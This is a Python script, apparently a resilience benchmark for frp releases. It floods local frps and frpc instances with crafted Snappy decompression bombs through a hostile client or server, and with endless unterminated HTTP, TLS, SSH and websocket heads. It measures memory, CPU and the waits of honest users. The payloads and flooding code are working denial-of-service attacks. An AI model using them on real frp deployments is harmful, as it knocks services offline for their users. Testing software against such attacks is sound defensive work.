#!/usr/bin/env python3
"""Bombs of Snappy, and heads of any size.  bombs.py NAME=DIR... [WORD...]

*Snappy*: a hostile client (at frps) or server (at frpc) answers each of CROWD (50) users of a proxy with `useCompression`
by frames that become much more than they are, as fast as it can for FLOOD (3) seconds. *Heads*: CROWD connections of one
address send a head without an end. Prints the most memory, CPU of one core, the longest wait of an honest user of the
same programs, and of heads how much of each was taken at most until it was refused.
"""
import multiprocessing
import os
import socket
import struct
import sys
import threading
import time

from lib import *

CROWD, FLOOD = int(os.environ.get("CROWD", "50")), float(os.environ.get("FLOOD", "3"))
HOSTILE = 20700


# Snappy's framing format: a type, three bytes of length, a check that is masked, data.

def crc32c(data):
    crc = 0xFFFFFFFF
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = crc >> 1 ^ (0x82F63B78 if crc & 1 else 0)
    crc ^= 0xFFFFFFFF
    return ((crc >> 15 | crc << 17) + 0xA282EAD8) & 0xFFFFFFFF


def chunk(kind, body, length=None):
    return bytes([kind]) + struct.pack("<I", len(body) if length is None else length)[:3] + body


BEGIN = chunk(0xFF, b"sNaPpY")
CHECK = struct.pack("<I", crc32c(bytes(65536)))
# 65,536 zeros: a literal of one, and copies of 64 of what is one byte back.
ZEROS = chunk(0, CHECK + b"\x80\x80\x04\0\0" + b"\xfe\x01\x00" * 1023 + b"\xfa\x01\x00")
BOMBS = {
    "zeros, 64 KiB in 3": (BEGIN, ZEROS * 20, False),
    "the same, users read": (BEGIN, ZEROS * 20, True),
    "a block that says 4 GiB": (BEGIN + chunk(0, CHECK + b"\xff\xff\xff\xff\x0f" + b"\xfe\x01\x00" * 1000), b"", False),
    "a chunk that says 16 MiB": (BEGIN + chunk(0, b"", 0xFFFFFF), bytes(65536), False),
    "plain data that says 16 MiB": (BEGIN + chunk(1, b"", 0xFFFFFF), bytes(65536), False),
    "padding": (BEGIN, chunk(0xFE, bytes(60000)) * 2, False),
    "chunks to skip": (BEGIN, chunk(0x80, bytes(60000)) * 2, False),
    "chunks of nothing": (BEGIN, chunk(1, struct.pack("<I", crc32c(b""))) * 5000, False),
    "beginnings": (BEGIN, BEGIN * 5000, False),
}


def pour(conn, bomb):
    """The bomb, for as long as it lasts or is taken."""
    first, more, _ = bomb
    conn.settimeout(1)
    end = time.time() + FLOOD
    try:
        conn.sendall(first)
        while more and time.time() < end:
            try:
                conn.sendall(more)
            except TimeoutError:
                return conn  # it was told in pieces
        time.sleep(max(0, end - time.time()))
    except OSError:
        pass
    return conn


def users_of(port, reads):
    """CROWD users who do not read, or do."""
    conns = []
    for _ in range(CROWD):
        conn = socket.socket()
        conn.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
        conn.bind((ATTACKER, 0))
        conn.settimeout(5)
        try:
            conn.connect((HONEST, port))
            conn.sendall(b"x")
            conns.append(conn)
        except OSError:
            pass

    def read(conn):
        try:
            while conn.recv(1 << 20):
                pass
        except OSError:
            pass

    threads = [threading.Thread(target=read, args=[conn]) for conn in conns if reads]
    for thread in threads:
        thread.start()
    time.sleep(FLOOD + 1)
    os._exit(0)


def hostile_client(bomb):
    """Registers a proxy, and answers its users with the bomb."""
    session = Session(mux=False, source=ATTACKER)
    session.send("NewProxy", proxy_name="bomb", proxy_type="tcp", remote_port=HOSTILE, use_compression=True)
    session.sock.settimeout(None)

    def work():
        try:
            conn = socket.create_connection((HONEST, BIND), 5, (ATTACKER, 0))
            conn.sendall(message("NewWorkConn", run_id=session.run_id))
            conn.settimeout(20)
            read_message(conn)
            pour(conn, bomb)
        except (OSError, EOFError):
            pass

    while True:
        kind, _ = read_message(session.control)
        if kind == "ReqWorkConn":
            threading.Thread(target=work, daemon=True).start()


def hostile_server(bomb, port):
    """Answers a login, asks for CROWD work connections, and pours the bomb into each."""
    listener = socket.create_server((HONEST, port), backlog=1024)

    def one(conn):
        try:
            kind, _ = read_message(conn)
            if kind == "Login":
                conn.sendall(message("LoginResp", version="0.70.1", run_id="r"))
                control = Enciphered(conn)
                control.sendall(message("NewProxyResp", proxy_name="bombed", remote_addr=":1"))
                control.sendall(message("ReqWorkConn") * CROWD)
                time.sleep(60)
            elif kind == "NewWorkConn":
                conn.sendall(message("StartWorkConn", proxy_name="bombed", src_addr="192.0.2.1", src_port=9))
                pour(conn, bomb)
        except (OSError, EOFError):
            pass

    while True:
        conn, _ = listener.accept()
        threading.Thread(target=one, args=[conn], daemon=True).start()


def deaf_service(port):
    """Takes connections and reads nothing."""
    listener = socket.create_server((HONEST, port), backlog=1024)
    kept = []
    while True:
        kept.append(listener.accept())


def snappy_at_frps(path, what):
    server = frps(path, "transport.tcpMux = false\n")
    client = frpc(path, ECHO, "transport.tcpMux = false\n")
    hostile = in_process(hostile_client, BOMBS[what])
    until(lambda: connects(HOSTILE), 5)
    server.watch()
    users = in_process(users_of, HOSTILE, BOMBS[what][2])
    said = judge(server, dict(user=lambda: served(USERS)), FLOOD + 0.5)
    for process in (users, hostile):
        process.kill()
    client.stop()
    server.stop()
    return said


def snappy_at_frpc(path, what):
    service = SERVICE if BOMBS[what][2] else SERVICE + 2
    server_port = 20800
    hostile = in_process(hostile_server, BOMBS[what], server_port)
    until(lambda: connects(server_port), 5)
    bombed = proxy("bombed", "tcp", localPort=service, remotePort=9)
    client = frpc(path, bombed + "transport.useCompression = true\n",
                  f"transport.tcpMux = false\ntransport.tls.enable = false\nwebServer.port = {ADMIN}\n", server_port, None)
    until(lambda: connects(ADMIN), 5)
    client.watch()
    said = judge(client, dict(admin=lambda: get(ADMIN, "127.0.0.1", path="/healthz")), FLOOD + 0.5)
    hostile.kill()
    client.stop()
    return said


def judge(program, people, seconds):
    came = Honest(**people)
    time.sleep(seconds)
    said = came.leave()
    memory, _, cpu = program.took()
    if not program.lives():
        return "ended"
    return f"+{memory:.0f} MB, {cpu:.0f} %, " + ", ".join(f"{who} {wait}" for who, wait in said.items())


ANSWER = b"HTTP/1.1 200 OK\r\nX: "
HEADS = {
    "http: a field": (VHOST, b"GET / HTTP/1.1\r\nHost: a.test\r\nX: ", b"y" * 16384),
    "http: fields": (VHOST, b"GET / HTTP/1.1\r\nHost: a.test\r\n", b"X: y\r\n" * 2000),
    "http: target": (VHOST, b"GET /", b"y" * 16384),
    "http: method": (VHOST, b"G", b"G" * 16384),
    "http: chunk's extension": (VHOST, b"POST / HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\n\r\n1;", b"y" * 16384),
    "http: trailers": (VHOST, b"POST / HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n", b"X: y\r\n" * 2000),
    "http: a service's answer": (VHOST, b"GET /endless HTTP/1.1\r\nHost: b.test\r\n\r\n", b""),
    "tcpmux: CONNECT": (CONNECT, b"CONNECT a.test:80 HTTP/1.1\r\n", b"X: y\r\n" * 2000),
    "https: hello": (HTTPS, b"\x16\x03\x01\x40\x00\x01\x00\xff\xff\x03\x03" + bytes(16373), b"\x16\x03\x01\x40\x00" + bytes(16384)),
    "websocket": (BIND, b"GET /~!frp HTTP/1.1\r\n", b"X: y\r\n" * 2000),
    "first message": (BIND, on_stream(b"o" + struct.pack(">q", 1 << 62)), mux_frame(0, 0, 1, 16384) + b"y" * 16384),
    "ssh gateway": (SSH, b"SSH-2.0-", b"y" * 16384),
    "web server": (WEB, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n", b"X: y\r\n" * 2000),
    "web server: body": (WEB, b"PUT /api/x HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Basic YTpi\r\nTransfer-Encoding: chunked\r\n\r\n",
                         b"4000\r\n" + b"y" * 16384 + b"\r\n"),
    "frpc's web server": (ADMIN, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n", b"X: y\r\n" * 2000),
    "frpc's http_proxy": (USERS + 10, b"GET http://127.0.0.1/ HTTP/1.1\r\n", b"X: y\r\n" * 2000),
    "frpc's static_file": (USERS + 11, b"GET / HTTP/1.1\r\n", b"X: y\r\n" * 2000),
}


def crowd_of_heads(port, first, more, most):
    def one():
        sent = 0
        try:
            conn = socket.create_connection((HONEST, port), 5, (ATTACKER, 0))
            conn.sendall(first)
            conn.settimeout(1)
            end = time.time() + FLOOD
            while time.time() < end:
                sent += conn.send(more) if more else len(conn.recv(65536)) or 1 / 0
        except (OSError, ArithmeticError):
            pass
        with most.get_lock():
            most.value = max(most.value, sent)
        time.sleep(max(0, end - time.time()))

    threads = [threading.Thread(target=one, daemon=True) for _ in range(CROWD)]
    for thread in threads:
        thread.start()
    time.sleep(FLOOD + 1)
    os._exit(0)


def endless_answers(port):
    listener = socket.create_server((HONEST, port), backlog=1024)

    def one(conn):
        try:
            conn.recv(65536)
            conn.sendall(b"HTTP/1.1 200 OK\r\n")
            while True:
                conn.sendall(b"X: y\r\n" * 2000)
        except OSError:
            pass

    while True:
        threading.Thread(target=one, args=[listener.accept()[0]], daemon=True).start()


def head(path, what, name):
    ssh = f"sshTunnelGateway.bindPort = {SSH}\n" if "ssh" in what else ""
    server = frps(path, ssh, cwd=tempfile.mkdtemp(prefix="attack."))
    plugins = "".join(f'[[proxies]]\nname = "p{n}"\ntype = "tcp"\nremotePort = {USERS + 10 + n}\n[proxies.plugin]\n{kind}\n'
                      for n, kind in enumerate(['type = "http_proxy"', 'type = "static_file"\nlocalPath = "/"']))
    client = frpc(path, ECHO + proxy("web", "http", localPort=SERVICE + 1, customDomains=["a.test"])
                  + proxy("endless", "http", localPort=SERVICE + 3, customDomains=["b.test"]) + plugins, f"webServer.port = {ADMIN}\n")
    if not server.lives():
        client.stop()
        return "has no such port"
    target = client if "frpc" in what else server
    target.watch()
    most = multiprocessing.Value("q", 0)
    crowding = in_process(crowd_of_heads, *HEADS[what], most)
    said = judge(target, dict(user=lambda: served(USERS), site=lambda: get(VHOST)), FLOOD + 0.5)
    crowding.join()
    client.stop()
    server.stop()
    return f"{most.value / 1e6:.1f} MB taken; {said}"


def main():
    named, words = releases()
    services = [echo_service(), web_service(SERVICE + 1), in_process(deaf_service, SERVICE + 2), in_process(endless_answers, SERVICE + 3)]
    tables = {
        f"Snappy to frps, {CROWD} users": (BOMBS, lambda path, what, name: snappy_at_frps(path, what)),
        f"Snappy to frpc, {CROWD} users": (BOMBS, lambda path, what, name: snappy_at_frpc(path, what)),
        f"Heads without an end, {CROWD} connections": (HEADS, head),
    }
    for title, (cases, attack) in tables.items():
        rows = {}
        for what in cases:
            if words and not any(word in f"{title}: {what}" for word in words):
                continue
            for name, path in named.items():
                rows.setdefault(what, {})[name] = attack(path, what, name)
                print(f"  {title}: {what}, {name}: {rows[what][name]}", file=sys.stderr, flush=True)
        if rows:
            table(title, rows)
    for service in services:
        service.terminate()


main()
